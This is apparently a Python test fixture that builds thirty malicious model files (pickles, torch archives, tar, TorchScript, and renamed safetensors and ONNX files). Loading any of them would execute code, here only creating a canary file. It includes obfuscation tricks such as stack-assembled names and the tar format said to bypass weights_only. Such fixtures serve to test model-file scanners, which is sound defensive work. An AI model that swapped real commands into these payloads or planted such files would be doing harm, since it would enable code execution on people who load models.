"""Thirty files that want to run something when they are loaded; each would create the canary."""

from __future__ import annotations

import builtins
import io
import json
import os
import pickle
import pickletools
import shutil
import struct
import subprocess
import tarfile
import zipfile
from functools import partial
from pathlib import Path

import numpy as np
import torch


class Calls:
    """Pickles as a call."""

    def __init__(self, function, *arguments):
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


class Evil(torch.nn.Module):
    """A whole module, as people save them, with a call inside."""

    def __init__(self, call):
        super().__init__()
        self.linear = torch.nn.Linear(2, 2)
        self.call = call


def calls(canary: str) -> dict[str, object]:
    """What to pickle, by name."""
    code = f"open({canary!r}, 'w').close()"
    return {
        "os.system": Calls(os.system, f"touch {canary}"),
        "posix.mkdir": Calls(os.mkdir, canary),
        "eval": Calls(eval, f"open({canary!r}, 'w')"),
        "exec": Calls(exec, code),
        "open": Calls(open, canary, "w"),
        "subprocess": Calls(subprocess.check_call, ["touch", canary]),
        "popen": Calls(subprocess.Popen, ["touch", canary]),
        "getattr": Calls(getattr(builtins, "exec"), code),  # noqa: B009
        "partial": Calls(map, partial(exec), [code]),
        "shutil": Calls(shutil.copy, "/dev/null", canary),
        "numpy": Calls(np.save, canary, np.zeros(1)),
        "torch.save": Calls(torch.save, torch.zeros(1), canary),
        "pathlib": Calls(Path.touch, Path(canary)),
        "nested": Calls(pickle.loads, pickle.dumps(Calls(os.system, f"touch {canary}"))),
        "list": [Calls(os.system, f"touch {canary}")],
        "weights": {"model": {"a": torch.zeros(2), "b": Calls(os.system, f"touch {canary}")}},
    }


def protocol_0(canary: str) -> bytes:
    return f"cposix\nsystem\n(S'touch {canary}'\ntR.".encode()


def stack_global(canary: str) -> bytes:
    """Names put together on the stack, so that they stand nowhere as one word."""
    parts = pickle.SHORT_BINUNICODE + b"\x05posix" + pickle.SHORT_BINUNICODE + b"\x06system" + pickle.STACK_GLOBAL
    command = f"touch {canary}".encode()
    return b"\x80\x04" + parts + pickle.BINUNICODE + struct.pack("<I", len(command)) + command + pickle.TUPLE1 + b"R."


def archive(data: bytes, *, compression: int = zipfile.ZIP_STORED, name: str = "data.pkl", **more: bytes) -> bytes:
    """A zip as torch.save lays it out, with any pickle inside."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as file:
        file.writestr(f"archive/{name}", data)
        file.writestr("archive/version", b"3\n")
        for key, value in more.items():
            file.writestr(f"archive/{key}", value)
    return buffer.getvalue()


def legacy(data: bytes) -> bytes:
    """torch.save's older format: magic number, version, system, then any pickle."""
    head = b"".join(pickle.dumps(v, 2) for v in (0x1950A86A20F9469CFC6C, 1001, {"little_endian": True}))
    return head + data + pickle.dumps([], 2)


def tar(data: bytes) -> bytes:
    """The oldest format, by which weights_only=True was escaped (CVE-2025-32434)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as file:
        for name, content in (("storages", data), ("tensors", data), ("pickle", data)):
            info = tarfile.TarInfo(name)
            info.size = len(content)
            file.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


def scripted(folder: Path) -> bytes:
    class Adds(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.trace(Adds(), torch.zeros(1)), buffer)
    return buffer.getvalue()


def saved(value: object, **options: object) -> bytes:
    buffer = io.BytesIO()
    torch.save(value, buffer, **options)
    return buffer.getvalue()


def safetensors_with(data: bytes, key: str) -> bytes:
    """A safetensors file that hides a pickle in its metadata or in the place of a tensor."""
    if key == "metadata":
        header = {"__metadata__": {"yolokkn": data.decode("latin-1")}}
        tail = b""
    else:
        header = {"a": {"dtype": "PICKLE", "shape": [len(data)], "data_offsets": [0, len(data)]}}
        tail = data
    text = json.dumps(header).encode()
    return len(text).to_bytes(8, "little") + text + tail


def payloads(canary: Path) -> dict[str, bytes]:
    """File name -> content."""
    where = str(canary)
    evil = Calls(os.system, f"touch {where}")
    plain = pickle.dumps(evil)
    files = {f"{name.replace('.', '_')}.pt": saved(value) for name, value in calls(where).items()}
    files |= {
        "protocol_0.pt": protocol_0(where),
        "stack_global.pth": archive(stack_global(where)),
        "optimized.pkl": pickletools.optimize(plain),
        "whole_module.pt": saved(Evil(evil)),
        "legacy.pth": legacy(plain),
        "legacy_saved.pt": saved({"a": evil}, _use_new_zipfile_serialization=False),
        "tar.pt": tar(plain),
        "compressed.pt": archive(plain, compression=zipfile.ZIP_DEFLATED),
        "nested_zip.pt": archive(archive(plain), name="inner.pt", **{"data.pkl": plain}),
        "torchscript.pt": scripted(canary.parent),
        "program.pt2": archive(plain, archive_format=b"pt2", **{"models/model.json": b"{}"}),
        "program_renamed.pt": archive(plain, archive_format=b"pt2"),
        "pickle_renamed.safetensors": plain,
        "archive_renamed.safetensors": archive(plain),
        "in_metadata.safetensors": safetensors_with(plain, "metadata"),
        "as_tensor.safetensors": safetensors_with(plain, "tensor"),
        "pickle_renamed.onnx": plain,
        "archive_renamed.onnx": archive(plain),
        "pickle_renamed.weights": plain,
        "lightning.ckpt": archive(plain),
        "model.bin": archive(plain),
    }
    return files
